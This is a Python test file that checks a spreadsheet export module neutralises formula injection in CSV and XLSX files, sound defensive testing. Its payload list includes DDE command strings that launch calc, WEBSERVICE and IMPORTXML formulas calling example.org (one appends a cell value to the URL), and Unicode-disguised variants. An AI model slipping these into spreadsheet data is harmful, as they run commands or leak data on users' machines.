"""What goes out to a spreadsheet holds no formula, and comes back as the words that went in."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from synthesis.briefs.tables import neutral, restored, to_csv, to_xlsx

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"click")',
    '=WEBSERVICE("http://example.org")',
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\u2060+1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "\u202e=1+1",
    "|calc",
    "%0A=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "-@SUM(A1)",
    '=\u200bIMPORTXML("http://example.org","//a")',
]
HARMLESS = [
    "Bus 14 was late",
    "plus one for later starts",
    "3 - 4 kids",
    "a=b",
    "mail me @ home",
    "",
    "0",
    "-5",
    "+3.5",
    "-12,5",
    "1.14E+11",
    "¿Qué tal?",
    "“= is a sign”",
]


def reopened_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def runs(text: str) -> bool:
    """Tell whether a spreadsheet would take a cell of these words for a formula (a plain number is none)."""
    bare = text.lstrip("".join(c for c in text if not c.isprintable() or c.isspace()) + "\ufeff\u200b\u2060")
    try:
        float(bare.replace(",", ".").rstrip("%"))
    except ValueError:
        return bare[:1] in tuple("=+-@＝＋－＠﹦﹢﹣﹫|%")
    return False


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_a_formula(payload: str):
    assert runs(payload)
    [_, [cell]] = reopened_csv(to_csv(["words"], [[payload]]))
    assert not runs(cell)
    sheet = load_workbook(io.BytesIO(to_xlsx("Words", ["words"], [[payload]]))).active
    assert sheet["A2"].data_type in ("s", "inlineStr")
    assert not runs(str(sheet["A2"].value))


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_words_are_unchanged(text: str):
    assert neutral(text) == text
    assert restored(neutral(text)) == text


@settings(max_examples=10_000, deadline=None, derandomize=True)
@given(st.text(max_size=30))
def test_any_words_come_back_as_they_went_in_and_never_run(text: str):
    assert not runs(neutral(text))
    assert restored(neutral(text)) == text


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.lists(st.text(max_size=20), min_size=2, max_size=2), max_size=8))
def test_every_row_and_cell_of_a_workbook_is_text(rows: list[list[str]]):
    sheet = load_workbook(io.BytesIO(to_xlsx("T", ["=a", "b"], rows))).active
    assert sheet.max_row == len(rows) + 1
    assert all(
        (cell.data_type in ("s", "inlineStr", "n") and cell.value is None) or cell.data_type in ("s", "inlineStr")
        for row in sheet.iter_rows()
        for cell in row
    )
